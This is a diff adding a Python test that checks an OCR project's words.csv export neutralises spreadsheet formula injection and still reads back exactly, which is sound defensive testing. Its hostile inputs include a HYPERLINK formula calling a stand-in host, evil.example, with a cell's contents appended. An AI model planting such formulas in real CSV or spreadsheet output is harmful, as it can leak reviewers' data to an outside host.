@@ -678,3 +678,25 @@ def test_the_benchmark_keeps_only_targets_and_records_how_many_it_left_out(synth
     assert out.meta["non_target_words"] == n0 + 2 and out.meta["target_rule"] == TARGET_RULE
     ids = {w.id for w in out.page(p0.id).words}
     assert a.id not in ids and b.id not in ids and out.n_words == before.n_words - 2
+
+
+def test_section_02s_word_table_is_inert_in_a_spreadsheet_and_reads_back_exactly(synth_ds, tmp_path):
+    """Issue 44 (CSV formula injection): section 02's words.csv, which the results archive holds, carries each
+    word's OCR readings; a reading (or a text) beginning with ``=`` began a cell of it on ed2f909, a formula in a
+    reviewer's spreadsheet. Now such a cell is written behind a quote, and the rating app's loader reads the run."""
+    import csv
+
+    from inkground_lib.core.csv_cells import read_csv
+    from inkground_lib.core.run_files import words_csv
+    from inkground_lib.core.run_loaders import load_pseudo_run
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)", "+1", "-x"]
+    engine = ScriptedEngine(crop_text=lambda i: hostile[i % len(hostile)],
+                            render_text=lambda i: hostile[i % len(hostile)])
+    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(), ocr=engine, progress=False)
+    with open(words_csv(r.run_dir), newline="") as f:
+        cells = [c for row in csv.DictReader(f) for k, c in row.items() if k in ("ocr_original", "ocr_rendered")]
+    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
+    back = read_csv(words_csv(r.run_dir), dtype={"page": str, "word_id": str}, keep_default_na=False)
+    assert set(back["ocr_original"]) == set(hostile) and back["text"].tolist() == r.words["text"].tolist()
+    assert load_pseudo_run(r.run_dir).all_pages  # the app's loader reads the run
